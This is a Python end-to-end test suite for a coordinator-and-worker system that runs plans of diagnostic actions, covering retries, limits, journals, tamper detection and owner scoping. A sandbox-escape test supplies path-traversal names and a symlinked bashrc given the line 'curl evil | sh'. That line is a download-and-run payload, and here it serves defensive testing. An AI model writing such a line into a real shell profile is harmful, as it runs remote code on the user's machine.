"""Runs end to end: real coordinator, real workers, plans of diagnostic actions."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

from shared.gen.deskfleet.v1 import runs_pb2, runs_pb2_grpc
from tests.harness import (
    BIN,
    STOPPED,
    CoordinatorProcess,
    WorkerProcess,
    base_env,
    journal,
    submit,
    wait_run,
    write_plan,
)
from tests.harness.plan_workers import no_browsers, shared_coordinator  # noqa: F401 (fixtures)


def _kinds(events: list[dict]) -> list[str]:
    return [e["kind"] for e in events]


def test_a_plan_runs_in_order_with_receipts_and_a_verified_journal(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    worker = workers("w")
    worker.wait_online()
    out = worker.scratch("appended.txt")
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {"kind": "diag.echo", "args": {"value": "one"}, "idempotent": True},
            {"kind": "diag.append", "args": {"name": "appended.txt", "line": "effect"}},
            {"kind": "diag.sleep", "args": {"seconds": 0.1}, "idempotent": True},
        ],
        title="three steps",
    )
    run = submit(coordinator, plan, wait=True)
    assert (run["status"], run["stopReason"]) == ("SUCCEEDED", "completed: every action succeeded")
    assert [a["status"] for a in run["actions"]] == ["SUCCEEDED"] * 3
    assert out.read_text() == "effect\n"
    events = journal(coordinator, run["id"])
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    receipts = [e for e in events if e["kind"] == "receipt"]
    assert [r["data"]["result"] for r in receipts] == [
        {"echo": "one"},
        {"bytes": 7, "name": "appended.txt"},
        {"slept": 0.1},
    ]
    assert _kinds(events)[0] == "run.submitted" and _kinds(events)[-1] == "run.state"
    verified = coordinator.cli_json("journal", "verify", run["id"])
    assert verified == {
        "ok": True,
        "eventsChecked": len(events),
        "receiptsChecked": 3,
        "problems": [],
    }
    listed = coordinator.cli_json("runs", "list")["runs"]
    assert [(r["id"], r["status"], r["title"]) for r in listed] == [
        (run["id"], "SUCCEEDED", "three steps")
    ]


def test_no_eligible_worker_waits_with_the_reason_and_keeps_progress(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("no-desktop").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {"kind": "diag.echo", "args": {"value": 1}, "idempotent": True},
            {
                "kind": "diag.echo",
                "args": {"value": 2},
                "idempotent": True,
                "route": {"capability": "computer_use"},
            },
        ],
    )
    run = submit(coordinator, plan)
    run = wait_run(coordinator, run["id"], lambda r: r["status"] == "WAITING_FOR_ENVIRONMENT")
    assert run["waiting"]["code"] == "no_eligible_worker"
    assert "needs capability computer_use" in run["waiting"]["detail"]
    assert [a["status"] for a in run["actions"]] == ["SUCCEEDED", "PENDING"]
    shown = coordinator.cli("runs", "show", run["id"]).stdout
    assert "waiting:    no_eligible_worker: needs capability computer_use" in shown
    coordinator.cli("runs", "cancel", run["id"])


def test_a_route_to_an_offline_worker_names_it(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    absent = workers("absent", start=False)
    assert absent.enroll().returncode == 0
    workers("present").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {
                "kind": "diag.echo",
                "args": {},
                "idempotent": True,
                "route": {"worker": absent.worker_id},
            }
        ],
    )
    run = wait_run(
        coordinator,
        submit(coordinator, plan)["id"],
        lambda r: r["status"] == "WAITING_FOR_ENVIRONMENT",
    )
    assert f"needs worker {absent.worker_id}" in run["waiting"]["detail"]
    # The saved work resumes when that worker comes online.
    absent.start()
    done = wait_run(coordinator, run["id"], lambda r: r["status"] == "SUCCEEDED")
    assert done["actions"][0]["workerId"] == absent.worker_id


def test_an_idempotent_failure_is_retried_and_journaled(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {
                "kind": "diag.fail",
                "args": {"message": "flaky", "fail_attempts": 2},
                "idempotent": True,
            }
        ],
    )
    run = submit(coordinator, plan, wait=True)
    assert run["status"] == "SUCCEEDED" and run["actions"][0]["attempts"] == 3
    retries = [e["data"] for e in journal(coordinator, run["id"]) if e["kind"] == "action.retry"]
    assert [r["cause"] for r in retries] == ["ActionFailed: flaky"] * 2


def test_a_failed_non_idempotent_action_stops_for_a_person_then_retry_and_abandon(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    worker = workers("w")
    worker.wait_online()
    out = worker.scratch("once.txt")
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {"kind": "diag.append", "args": {"name": "once.txt", "line": "done"}},
            {"kind": "diag.fail", "args": {"message": "broken", "fail_attempts": 1}},
            {"kind": "diag.echo", "args": {}, "idempotent": True},
        ],
    )
    run = submit(coordinator, plan, wait=True)
    assert run["status"] == "FAILED"
    assert run["stopReason"].startswith("action 1 (diag.fail")
    assert "not idempotent: no retry" in run["stopReason"]
    # Retry continues from the checkpoint: the completed append is not replayed.
    retried = coordinator.cli_json("runs", "retry", run["id"])
    assert retried["status"] in ("RUNNING", "SUCCEEDED")
    final = wait_run(coordinator, run["id"], lambda r: r["status"] in STOPPED)
    assert final["status"] == "SUCCEEDED" and out.read_text() == "done\n"
    again = coordinator.cli("runs", "retry", run["id"], check=False)
    assert again.returncode == 1 and "only a FAILED or HAND_BACK_TO_HUMAN run" in again.stderr

    failing = submit(
        coordinator,
        write_plan(tmp_path / "p2.json", [{"kind": "diag.fail", "args": {"message": "always"}}]),
        wait=True,
    )
    abandoned = coordinator.cli_json("runs", "abandon", failing["id"])
    assert abandoned["status"] == "CANCELLED"
    assert abandoned["stopReason"].startswith("abandoned by admin")


def test_cancel_interrupts_a_running_sleep(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    worker = workers("w")
    worker.wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {"kind": "diag.sleep", "args": {"seconds": 60}, "idempotent": True},
            {"kind": "diag.echo", "args": {}, "idempotent": True},
        ],
    )
    run = submit(coordinator, plan)
    wait_run(coordinator, run["id"], lambda r: r["actions"][0]["status"] == "STARTED")
    started = time.monotonic()
    cancelled = coordinator.cli_json("runs", "cancel", run["id"])
    assert cancelled["status"] == "CANCELLED" and cancelled["stopReason"] == "cancelled by admin"
    final = wait_run(coordinator, run["id"], lambda r: r["actions"][0]["status"] == "FAILED", 30)
    assert time.monotonic() - started < 30  # interrupted, not slept to its 60 s end
    assert [a["status"] for a in final["actions"]] == ["FAILED", "CANCELLED"]
    receipt = next(e for e in journal(coordinator, run["id"]) if e["kind"] == "receipt")
    assert receipt["data"]["status"] == "cancelled"


def test_guidance_is_queued_delivered_at_a_boundary_and_limited(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            # Long enough for two CLI calls to land while it runs, even on a loaded machine.
            {"kind": "diag.sleep", "args": {"seconds": 5}, "idempotent": True},
            {"kind": "diag.echo", "args": {}, "idempotent": True},
        ],
    )
    run = submit(coordinator, plan)
    wait_run(coordinator, run["id"], lambda r: r["actions"][0]["status"] == "STARTED")
    queued = coordinator.cli_json("runs", "guide", run["id"], "prefer the short route")
    assert queued["queued"] == 1
    assert coordinator.cli_json("runs", "show", run["id"])["guidanceQueued"] == 1
    wait_run(coordinator, run["id"], lambda r: r["status"] == "SUCCEEDED")
    kinds = _kinds(journal(coordinator, run["id"]))
    # Delivered after the in-flight sleep finished, before the next dispatch.
    first_receipt = kinds.index("receipt")
    delivered = kinds.index("guidance.delivered")
    assert kinds.index("guidance.queued") < first_receipt < delivered
    assert kinds[delivered + 1] == "action.dispatched"

    late = coordinator.cli("runs", "guide", run["id"], "too late", check=False)
    assert late.returncode == 1 and "is SUCCEEDED: nothing to guide" in late.stderr

    waiting = submit(
        coordinator,
        write_plan(
            tmp_path / "p2.json",
            [
                {
                    "kind": "diag.echo",
                    "args": {},
                    "idempotent": True,
                    "route": {"capability": "computer_use"},
                }
            ],
        ),
    )
    long_text = coordinator.cli("runs", "guide", waiting["id"], "x" * 4001, check=False)
    assert long_text.returncode == 2
    assert "at most 4000 characters (this is 4001)" in long_text.stderr
    for _ in range(3):
        coordinator.cli("runs", "guide", waiting["id"], "y" * 4000)
    over_total = coordinator.cli("runs", "guide", waiting["id"], "z" * 4000 + "!", check=False)
    assert over_total.returncode == 2  # 4001 characters is refused before the total is counted
    over_total = coordinator.cli("runs", "guide", waiting["id"], "z" * 4000, check=False)
    assert over_total.returncode == 0
    over_total = coordinator.cli("runs", "guide", waiting["id"], "!", check=False)
    assert over_total.returncode == 1 and "exceed 16000 characters" in over_total.stderr
    counted = submit(
        coordinator,
        write_plan(
            tmp_path / "p3.json",
            [
                {
                    "kind": "diag.echo",
                    "args": {},
                    "idempotent": True,
                    "route": {"capability": "computer_use"},
                }
            ],
        ),
    )
    # Filled in-process (the CLI's messages are what the calls around this check).
    channel = coordinator.channel()
    assert channel is not None
    stub = runs_pb2_grpc.RunServiceStub(channel)
    for i in range(16):
        request = runs_pb2.GuideRunRequest(id=counted["id"], text=f"note {i}")
        stub.GuideRun(request, metadata=coordinator.admin_metadata(), timeout=30)
    seventeenth = coordinator.cli("runs", "guide", counted["id"], "one more", check=False)
    assert seventeenth.returncode == 1
    assert "already has 16 guidance messages (at most 16 per run)" in seventeenth.stderr


def test_the_estimate_extends_three_times_then_hands_back_and_never_passes_the_limit(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [{"kind": "diag.echo", "args": {"value": i}, "idempotent": True} for i in range(6)],
        limits={"max_actions": 8, "estimate_actions": 1},
    )
    run = submit(coordinator, plan, wait=True)
    assert run["status"] == "HAND_BACK_TO_HUMAN"
    assert run["stopReason"].startswith("estimate_exhausted: the estimate is spent and 3")
    assert run["extensions"] == 3 and run["actionsSucceeded"] == 4
    extensions = [
        e["data"] for e in journal(coordinator, run["id"]) if e["kind"] == "budget.extended"
    ]
    assert [e["estimate_actions"] for e in extensions] == [2, 3, 4]
    # "Keep working": continue within the original limit of 8 attempts, never beyond it.
    coordinator.cli("runs", "retry", run["id"])
    done = wait_run(coordinator, run["id"], lambda r: r["status"] in STOPPED)
    assert done["status"] == "SUCCEEDED" and done["attemptsUsed"] == 6
    assert done["limits"]["maxActions"] == 8 and done["extensions"] == 3


def test_a_hard_limit_stops_the_run_and_retry_grants_no_budget(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {"kind": "diag.fail", "args": {"fail_attempts": 5}, "idempotent": True},
            {"kind": "diag.echo", "args": {}, "idempotent": True},
        ],
        limits={"max_actions": 2},
    )
    run = submit(coordinator, plan, wait=True)
    assert run["status"] == "FAILED" and run["attemptsUsed"] == 2
    assert run["stopReason"].startswith("budget_exhausted: the action limit (2 attempts)")
    refused = coordinator.cli("runs", "retry", run["id"], check=False)
    assert refused.returncode == 1 and "a retry grants no budget" in refused.stderr


def test_receipts_survive_every_character_and_bulky_results_are_archived(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    tricky = 'nul\x00 bell\x07 lone\ud800surrogate é 😀 "quoted" back\\slash\n'
    big = "0123456789abcdef" * 65536  # 1 MiB
    plan = tmp_path / "plan.json"
    plan.write_text(
        json.dumps(
            {
                "actions": [
                    {"kind": "diag.echo", "args": {"value": tricky}, "idempotent": True},
                    {"kind": "diag.echo", "args": {"value": big}, "idempotent": True},
                ]
            },
            ensure_ascii=True,
        )
    )
    run = submit(coordinator, plan, wait=True)
    assert run["status"] == "SUCCEEDED"
    receipts = [e for e in journal(coordinator, run["id"]) if e["kind"] == "receipt"]
    assert receipts[0]["data"]["result"] == {"echo": tricky}
    archived = receipts[1]["data"]
    assert archived["incomplete"] is True and "result" not in archived
    assert archived["result_preview"].startswith('{"echo":"0123456789abcdef')
    # Exact paged recall of the archived receipt's original text.
    text, offset, pages = "", 0, 0
    while offset >= 0:
        page = coordinator.cli_json(
            "journal",
            "read",
            run["id"],
            "--seq",
            str(receipts[1]["seq"]),
            "--offset",
            str(offset),
            "--limit",
            "65536",
        )
        assert page["archived"] is True
        text += page["text"]
        offset = int(page["nextOffset"])
        pages += 1
    assert pages == -(-int(page["totalLength"]) // 65536)
    assert json.loads(text)["result"] == {"echo": big}


def test_journal_search_pages_with_a_cursor(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [
            {"kind": "diag.echo", "args": {"value": f"needle {i}"}, "idempotent": True}
            for i in range(5)
        ],
    )
    run = submit(coordinator, plan, wait=True)
    seen: list[int] = []
    cursor = ""
    while True:
        args = ["journal", "search", run["id"], "NEEDLE", "--limit", "2"]
        page = coordinator.cli_json(*args, *(["--cursor", cursor] if cursor else []))
        seen += [m["seq"] for m in page["matches"]]
        assert all("needle" in m["excerpt"] for m in page["matches"])
        if not page["hasMore"]:
            break
        cursor = page["cursor"]
    # The values appear only in the receipts (the journal records no dispatch arguments);
    # three pages of at most two matches find each exactly once, in order.
    receipt_seqs = [e["seq"] for e in journal(coordinator, run["id"]) if e["kind"] == "receipt"]
    assert seen == receipt_seqs and len(seen) == 5
    nothing = coordinator.cli_json("journal", "search", run["id"], "absent-words")
    assert nothing == {"matches": [], "cursor": "", "hasMore": False, "matchLimitReached": False}


def test_a_tampered_receipt_is_detected(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [{"kind": "diag.echo", "args": {"value": "x" * 5000}, "idempotent": True}],
    )
    run = submit(coordinator, plan, wait=True)
    seq = next(e["seq"] for e in journal(coordinator, run["id"]) if e["kind"] == "receipt")
    with sqlite3.connect(coordinator.workdir / "fleet.db") as db:
        db.execute("UPDATE receipts SET body = replace(body, 'xxxx', 'xxxy')")
    verified = coordinator.cli("journal", "verify", run["id"], "--json", check=False)
    assert verified.returncode == 6
    assert "does not match its content hash" in json.loads(verified.stdout)["problems"][0]
    read = coordinator.cli("journal", "read", run["id"], "--seq", str(seq), check=False)
    assert read.returncode == 1
    assert "does not match its content hash: the stored receipt was altered" in read.stderr
    with sqlite3.connect(coordinator.workdir / "fleet.db") as db:
        db.execute(
            "UPDATE journal SET data = replace(data, 'diag.echo', 'diag.hack') WHERE seq = 1"
        )
    done = coordinator.cli("journal", "verify", run["id"], "--json", check=False)
    problems = json.loads(done.stdout)["problems"]
    assert "event 1 (run.submitted) was altered after it was written" in problems


def test_runs_are_owner_scoped_on_every_read_path(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    tokens = {}
    for name in ("alice", "bob"):
        token_file = tmp_path / f"{name}.token"
        token_file.write_text(coordinator.cli_json("users", "create", name)["token"])
        tokens[name] = token_file
    plan = write_plan(
        tmp_path / "plan.json",
        [{"kind": "diag.echo", "args": {"value": "secret"}, "idempotent": True}],
    )
    run = submit(coordinator, plan, wait=True, token_file=tokens["alice"])
    assert run["owner"].startswith("usr_") and run["status"] == "SUCCEEDED"
    bob = tokens["bob"]
    for args in (
        ("runs", "show", run["id"]),
        ("runs", "watch", run["id"], "--no-follow"),
        ("runs", "cancel", run["id"]),
        ("runs", "retry", run["id"]),
        ("runs", "abandon", run["id"]),
        ("runs", "guide", run["id"], "hi"),
        ("journal", "read", run["id"], "--seq", "1"),
        ("journal", "search", run["id"], "secret"),
        ("journal", "verify", run["id"]),
    ):
        done = coordinator.cli(*args, token_file=bob, check=False)
        assert (done.returncode, done.stderr) == (4, f"deskfleet: no run '{run['id']}'\n"), args
        assert "secret" not in done.stdout
    assert coordinator.cli_json("runs", "list", token_file=bob)["runs"] == []
    assert coordinator.cli_json("runs", "show", run["id"], token_file=tokens["alice"])["id"]
    # Naming another owner (or every owner) in a list is for admins only.
    for owner, said in (
        ("alice", "deskfleet: no user 'alice'"),
        (run["owner"], f"deskfleet: no user '{run['owner']}'"),
        ("*", "deskfleet: owner '*': only admins list every owner's runs"),
    ):
        done = coordinator.cli("runs", "list", "--owner", owner, token_file=bob, check=False)
        assert done.returncode != 0 and done.stderr.strip() == said and run["id"] not in done.stdout
    for owner in ("alice", run["owner"]):
        listed = coordinator.cli_json("runs", "list", "--owner", owner, "--kind", "plan")["runs"]
        assert [r["id"] for r in listed] == [run["id"]] and listed[0]["kind"] == "plan"
    # Every owner's: with the runs of the module's other tests (they share one coordinator).
    listed = coordinator.cli_json("runs", "list", "--owner", "*", "--kind", "plan")["runs"]
    assert run["id"] in [r["id"] for r in listed] and {r["kind"] for r in listed} == {"plan"}
    assert coordinator.cli_json("runs", "list", "--owner", "*", "--kind", "research")["runs"] == []


def test_watch_resumes_after_a_disconnect_without_gaps_or_duplicates(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    workers("w").wait_online()
    plan = write_plan(
        tmp_path / "plan.json",
        [{"kind": "diag.sleep", "args": {"seconds": 0.15}, "idempotent": True} for _ in range(12)],
    )
    run = submit(coordinator, plan)
    env = base_env(coordinator.workdir)
    env.update(
        DESKFLEET_COORDINATOR=coordinator.address,
        DESKFLEET_TOKEN_FILE=str(coordinator.admin_token_file),
    )
    watcher = subprocess.Popen(
        [BIN / "deskfleet", "runs", "watch", run["id"]], stdout=subprocess.PIPE, text=True, env=env
    )
    assert watcher.stdout is not None
    first = [watcher.stdout.readline() for _ in range(6)]
    watcher.kill()  # the client goes away mid-run
    watcher.wait()
    watcher.stdout.close()
    last_seen = int(first[-1].split()[0])
    rest = journal(coordinator, run["id"], after=last_seen)
    wait_run(coordinator, run["id"], lambda r: r["status"] == "SUCCEEDED")
    rest = journal(coordinator, run["id"], after=last_seen)
    full = journal(coordinator, run["id"])
    seen = [int(line.split()[0]) for line in first] + [e["seq"] for e in rest]
    assert seen == [e["seq"] for e in full] == list(range(1, len(full) + 1))


# ------------------------------------------------------------- plan validation (no processes)


def test_an_owner_cannot_make_a_worker_write_outside_its_scratch_directory(
    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
) -> None:
    worker = workers("w")
    worker.wait_online()
    owner = tmp_path / "owner.token"
    owner.write_text(coordinator.cli_json("users", "create", "mallory")["token"])
    identity = worker.state_dir / "worker.json"
    before = identity.read_bytes()
    outside = tmp_path / "bashrc"
    outside.write_text("# the desk user's shell\n")
    worker.scratch("").mkdir(exist_ok=True)
    worker.scratch("rc.txt").symlink_to(outside)
    # A path argument does not even reach the worker: diag.append takes no such argument.
    refused = coordinator.cli(
        "runs",
        "submit",
        str(
            write_plan(
                tmp_path / "path.json",
                [{"kind": "diag.append", "args": {"path": str(identity), "line": "{}"}}],
            )
        ),
        token_file=owner,
        check=False,
    )
    assert refused.returncode == 2 and "path" in refused.stderr, refused.stderr
    attempts = [
        {"name": str(identity), "line": "{}"},
        {"name": "../worker.json", "line": "{}"},
        {"name": "rc.txt", "line": "curl evil | sh"},
    ]
    for i, args in enumerate(attempts):
        plan = write_plan(tmp_path / f"plan{i}.json", [{"kind": "diag.append", "args": args}])
        run = submit(coordinator, plan, wait=True, token_file=owner)
        assert run["status"] != "SUCCEEDED", args
        [action] = run["actions"]
        assert action["status"] == "FAILED" and action["attempts"] == 1, action
        assert action["error"].startswith("outside_scratch: "), action["error"]
    assert identity.read_bytes() == before
    assert outside.read_text() == "# the desk user's shell\n"
    # The same worker still writes inside its scratch directory.
    plan = write_plan(
        tmp_path / "ok.json", [{"kind": "diag.append", "args": {"name": "ok.txt", "line": "in"}}]
    )
    assert submit(coordinator, plan, wait=True, token_file=owner)["status"] == "SUCCEEDED"
    assert worker.scratch("ok.txt").read_text() == "in\n"
